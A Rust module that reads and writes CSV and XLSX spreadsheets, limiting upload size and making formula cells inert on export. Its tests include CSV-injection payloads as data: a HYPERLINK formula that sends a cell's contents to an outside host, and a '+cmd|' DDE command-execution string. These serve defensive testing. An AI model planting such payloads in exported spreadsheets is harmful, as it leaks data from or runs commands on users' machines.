//! Spreadsheets in and out: CSV (comma or semicolon, as Italian Excel writes it) and XLSX.
//! The kind of an upload is decided by its content, not its name.

use std::io::Cursor;

/// A table as read: the first row names the columns.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    pub header: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

/// Imports larger than this are refused (a programme imports hundreds, not millions).
pub const MAX_ROWS: usize = 10_000;

/// Columns beyond this are refused: our widest import has a few dozen.
pub const MAX_COLUMNS: usize = 200;

/// How long reading one upload may take, off the async runtime, before it is refused.
pub const READ_BUDGET: std::time::Duration = std::time::Duration::from_secs(10);

/// Reads an upload on a blocking thread within [`READ_BUDGET`], so that a hostile file
/// cannot stall the server's async workers. The caps on rows and columns, checked cell by
/// cell before anything is kept, bound the memory a file can cost.
pub async fn read_upload(bytes: Vec<u8>) -> Result<Table, &'static str> {
    let reading = tokio::task::spawn_blocking(move || read(&bytes));
    match tokio::time::timeout(READ_BUDGET, reading).await {
        Ok(Ok(table)) => table,
        Ok(Err(_)) => Err("error-import-format"),
        Err(_) => Err("error-too-large"),
    }
}

/// Reads an uploaded file; the error is a Fluent key.
pub fn read(bytes: &[u8]) -> Result<Table, &'static str> {
    // An XLSX file is a zip archive: it starts with the local-file signature.
    let table = if bytes.starts_with(b"PK\x03\x04") {
        read_xlsx(bytes)?
    } else {
        read_csv(bytes)?
    };
    if table.header.iter().all(String::is_empty) {
        return Err("error-import-empty");
    }
    if table.rows.len() > MAX_ROWS {
        return Err("error-import-too-many-rows");
    }
    Ok(table)
}

fn read_csv(bytes: &[u8]) -> Result<Table, &'static str> {
    let text = std::str::from_utf8(bytes).map_err(|_| "error-import-format")?;
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let first = text.lines().next().unwrap_or("");
    let delimiter = if first.matches(';').count() > first.matches(',').count() {
        b';'
    } else {
        b','
    };
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let mut records = Vec::new();
    for record in reader.records() {
        let record = record.map_err(|_| "error-import-format")?;
        // Stop at the cap rather than read millions of rows only to refuse them.
        if records.len() > MAX_ROWS {
            return Err("error-import-too-many-rows");
        }
        if record.len() > MAX_COLUMNS {
            return Err("error-import-too-many-columns");
        }
        records.push(
            record
                .iter()
                .map(|s| s.trim().to_owned())
                .collect::<Vec<_>>(),
        );
    }
    split(records)
}

/// Reads the first sheet cell by cell. The sheet's declared size (which a 1.5 KB file can
/// set to A1:XFD1048576) is never trusted: each cell's position is checked against the caps
/// before a row or column is made for it.
fn read_xlsx(bytes: &[u8]) -> Result<Table, &'static str> {
    use calamine::{DataRef, Reader, Xlsx};
    let mut book: Xlsx<_> =
        calamine::open_workbook_from_rs(Cursor::new(bytes)).map_err(|_| "error-import-format")?;
    let sheet = book
        .sheet_names()
        .first()
        .cloned()
        .ok_or("error-import-empty")?;
    let mut cells = book
        .worksheet_cells_reader(&sheet)
        .map_err(|_| "error-import-format")?;
    let mut records: Vec<Vec<String>> = Vec::new();
    while let Some(cell) = cells.next_cell().map_err(|_| "error-import-format")? {
        let (row, col) = cell.get_position();
        let (row, col) = (row as usize, col as usize);
        if row > MAX_ROWS {
            return Err("error-import-too-many-rows");
        }
        if col >= MAX_COLUMNS {
            return Err("error-import-too-many-columns");
        }
        let text = match cell.get_value() {
            DataRef::Empty | DataRef::Error(_) => continue,
            DataRef::String(s) | DataRef::DateTimeIso(s) | DataRef::DurationIso(s) => {
                s.trim().to_owned()
            }
            DataRef::SharedString(s) => s.trim().to_owned(),
            DataRef::Int(i) => i.to_string(),
            // Whole numbers typed in Excel arrive as floats: show them as typed.
            DataRef::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
            DataRef::Float(f) => f.to_string(),
            DataRef::Bool(b) => b.to_string(),
            DataRef::DateTime(d) => d
                .as_datetime()
                .map_or_else(|| d.as_f64().to_string(), |t| t.date().to_string()),
        };
        if records.len() <= row {
            records.resize_with(row + 1, Vec::new);
        }
        let r = &mut records[row];
        if r.len() <= col {
            r.resize(col + 1, String::new());
        }
        r[col] = text;
    }
    split(records)
}

fn split(mut records: Vec<Vec<String>>) -> Result<Table, &'static str> {
    records.retain(|r| r.iter().any(|c| !c.is_empty()));
    if records.is_empty() {
        return Err("error-import-empty");
    }
    let header = records.remove(0);
    let width = header.len();
    let rows = records
        .into_iter()
        .map(|mut r| {
            r.resize(width, String::new());
            r
        })
        .collect();
    Ok(Table { header, rows })
}

/// Where a reader may start a new cell inside one of ours: Italian and French Excel split
/// on `;` (their list separator) and some readers ignore quotes, so a `;` or `,` inside a
/// cell, a tab or a line break can begin a cell of its own.
fn starts_cell(c: char) -> bool {
    matches!(c, ',' | ';' | '\t' | '\r' | '\n')
}

/// True when a cell beginning with `rest` would run as a formula. Phone numbers and signed
/// numbers (`+216 20 123 456`, `-3`) do not.
fn runs_as_formula(rest: &str) -> bool {
    match rest.chars().next() {
        Some('=' | '@') => true,
        Some('+' | '-') => !rest[1..]
            .chars()
            .take_while(|c| !starts_cell(*c))
            .all(|c| c.is_ascii_digit() || " ()-./".contains(c)),
        _ => false,
    }
}

/// A cell with a leading `'` (which makes it text) at every place a reader may start a
/// cell that would run as a formula (`=HYPERLINK(…)` typed into a name by an applicant,
/// or `Ben;=HYPERLINK(…)` for a reader that splits on `;`).
fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let mut out = String::new();
    let mut last = 0;
    let starts = std::iter::once(0).chain(
        cell.char_indices()
            .filter(|(_, c)| starts_cell(*c))
            .map(|(i, c)| i + c.len_utf8()),
    );
    for at in starts {
        if runs_as_formula(&cell[at..]) {
            out.push_str(&cell[last..at]);
            out.push('\'');
            last = at;
        }
    }
    if last == 0 && out.is_empty() {
        return cell.into();
    }
    out.push_str(&cell[last..]);
    out.into()
}

/// CSV with a byte-order mark, so that Excel opens accents and Arabic correctly. Every field
/// is quoted, so a `;` or `,` inside one never splits it, and cells that would run as
/// formulas are made inert (see `inert`).
pub fn to_csv(header: &[String], rows: &[Vec<String>]) -> Vec<u8> {
    let mut out = Vec::from("\u{feff}".as_bytes());
    {
        let mut w = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .from_writer(&mut out);
        let _ = w.write_record(header.iter().map(|h| inert(h).into_owned()));
        for r in rows {
            let _ = w.write_record(r.iter().map(|c| inert(c).into_owned()));
        }
        let _ = w.flush();
    }
    out
}

pub fn to_xlsx(sheet: &str, header: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>, String> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut book = Workbook::new();
    let bold = Format::new().set_bold();
    let ws = book.add_worksheet();
    ws.set_name(sheet).map_err(|e| e.to_string())?;
    for (c, h) in header.iter().enumerate() {
        ws.write_string_with_format(0, c as u16, h, &bold)
            .map_err(|e| e.to_string())?;
    }
    for (r, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            // Counts stay numbers so that sums work; codes (VAT numbers, ATECO, phones) stay
            // text so that no leading zero or trailing decimal is lost.
            let is_count = (1..=9).contains(&v.len())
                && v.bytes().all(|b| b.is_ascii_digit())
                && (v.len() == 1 || !v.starts_with('0'));
            match v.parse::<f64>() {
                Ok(n) if is_count => ws
                    .write_number(r as u32 + 1, c as u16, n)
                    .map_err(|e| e.to_string())?,
                _ => ws
                    .write_string(r as u32 + 1, c as u16, v)
                    .map_err(|e| e.to_string())?,
            };
        }
    }
    ws.set_freeze_panes(1, 0).map_err(|e| e.to_string())?;
    ws.autofit();
    book.save_to_buffer().map_err(|e| e.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &[&str]) -> Vec<String> {
        v.iter().map(|x| (*x).to_owned()).collect()
    }

    #[test]
    fn csv_with_semicolons_and_bom_is_read() {
        let t = read(
            "\u{feff}Nome;Città;Dipendenti\nAlfa Srl;Milano;12\n\n;;\nBeta;Torino\n".as_bytes(),
        );
        assert_eq!(
            t,
            Ok(Table {
                header: s(&["Nome", "Città", "Dipendenti"]),
                rows: vec![s(&["Alfa Srl", "Milano", "12"]), s(&["Beta", "Torino", ""])]
            })
        );
    }

    #[test]
    fn what_we_write_we_read_back_in_both_formats() {
        let header = s(&["name", "vat_number", "employees"]);
        let rows = vec![
            s(&["Città Srl", "01234567897", "12"]),
            s(&["شركة", "", "3"]),
        ];
        assert_eq!(
            read(&to_csv(&header, &rows)),
            Ok(Table {
                header: header.clone(),
                rows: rows.clone()
            })
        );
        let xlsx = to_xlsx("Companies", &header, &rows).unwrap_or_default();
        assert!(xlsx.starts_with(b"PK\x03\x04"));
        assert_eq!(
            read(&xlsx),
            Ok(Table { header, rows }),
            "leading zeros of a VAT number survive"
        );
    }

    #[test]
    fn a_sheet_that_claims_or_uses_a_huge_range_is_refused_at_once() {
        use rust_xlsxwriter::Workbook;
        let sheet = |row: u32, col: u16| {
            let mut book = Workbook::new();
            let ws = book.add_worksheet();
            ws.write_string(0, 0, "name")
                .unwrap_or_else(|e| panic!("{e}"));
            ws.write_string(row, col, "x")
                .unwrap_or_else(|e| panic!("{e}"));
            book.save_to_buffer().unwrap_or_default()
        };
        // The last cell of a sheet: its range is A1:XFD1048576, a tiny file.
        let huge = sheet(1_048_575, 16_383);
        assert!(huge.len() < 10_000);
        let started = std::time::Instant::now();
        assert_eq!(read(&huge), Err("error-import-too-many-rows"));
        assert_eq!(
            read(&sheet(1_048_575, 1)),
            Err("error-import-too-many-rows")
        );
        assert_eq!(read(&sheet(2, 300)), Err("error-import-too-many-columns"));
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
        assert!(
            read(&sheet(5, 3)).is_ok(),
            "a sparse small sheet still reads"
        );
    }

    #[test]
    fn a_csv_with_too_many_rows_is_refused_without_reading_them_all() {
        let mut text = String::from("name\n");
        for i in 0..200_000 {
            text.push_str(&format!("n{i}\n"));
        }
        let started = std::time::Instant::now();
        assert_eq!(read(text.as_bytes()), Err("error-import-too-many-rows"));
        assert!(started.elapsed() < std::time::Duration::from_secs(2));
        let wide = format!("{}\n", vec!["c"; MAX_COLUMNS + 1].join(","));
        assert_eq!(read(wide.as_bytes()), Err("error-import-too-many-columns"));
    }

    #[test]
    fn garbage_is_refused_by_content() {
        assert_eq!(
            read(b"PK\x03\x04 not really a zip"),
            Err("error-import-format")
        );
        assert_eq!(read(&[0xff, 0xfe, 0x00, 0x41]), Err("error-import-format"));
        assert_eq!(read(b"\n\n"), Err("error-import-empty"));
    }

    #[test]
    fn csv_cells_never_run_as_formulas() {
        let rows = vec![vec![
            "=HYPERLINK(\"http://x/?\"&B2,\"CV\")".to_owned(),
            "@SUM(A1)".to_owned(),
            "+cmd|' /C calc'!A0".to_owned(),
            "+216 20 123 456".to_owned(),
            "-3".to_owned(),
            "Trabelsi".to_owned(),
        ]];
        let header = s(&["a", "b", "c", "d", "e", "f"]);
        let csv = String::from_utf8(to_csv(&header, &rows)).unwrap_or_default();
        let line = csv.lines().nth(1).unwrap_or_default();
        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
        assert!(line.contains("\",\"'@SUM(A1)\",\""), "{line}");
        assert!(line.contains("'+cmd|"), "{line}");
        assert!(
            line.ends_with("\"+216 20 123 456\",\"-3\",\"Trabelsi\""),
            "{line}"
        );
    }

    #[test]
    fn a_formula_after_a_separator_inside_a_cell_is_inert_too() {
        // Italian and French Excel split on `;`: each piece is a cell to them.
        let rows = vec![vec![
            "Ben;=HYPERLINK(\"http://x\")".to_owned(),
            "Salah,@SUM(A1)".to_owned(),
            "a\n-3;+216 20 123 456\n-2+3".to_owned(),
        ]];
        let csv = String::from_utf8(to_csv(&s(&["a", "b", "c"]), &rows)).unwrap_or_default();
        assert!(
            csv.contains("\"Ben;'=HYPERLINK(\"\"http://x\"\")\""),
            "{csv}"
        );
        assert!(csv.contains("\"Salah,'@SUM(A1)\""), "{csv}");
        assert!(
            csv.contains("\"a\n-3;+216 20 123 456\n'-2+3\""),
            "signed numbers stay, sums do not: {csv}"
        );
        let header = csv.trim_start_matches('\u{feff}').lines().next();
        assert_eq!(header, Some("\"a\",\"b\",\"c\""), "every field is quoted");
        assert_eq!(inert("Trabelsi; Sfax"), "Trabelsi; Sfax");
    }
}
